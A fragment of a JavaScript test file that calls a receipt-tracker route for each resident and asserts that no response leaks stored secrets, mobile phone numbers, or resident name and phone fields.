    for (const r of residents) {
      await add(`receipt ${r.receipt_code}`, callRoute(receipt.loader, { path: `/tracker/receipt?code=${r.receipt_code}`, address: nextAddress() }));
    }

    const phonePattern = /(?<!\d)1[3-9]\d{9}(?!\d)/;
    for (const [label, result] of outputs) {
      expect(result.status, label).toBe(200);
      const text = typeof result.data === "string" ? result.data : JSON.stringify(result.data);
      const found = secrets.filter((s) => text.includes(s));
      expect(found, label).toEqual([]);
      expect(text, label).not.toMatch(phonePattern);
      expect(text, label).not.toMatch(/resident_(name|phone)|residentName|residentPhone|collector/);
    }
  }, 120_000);
});
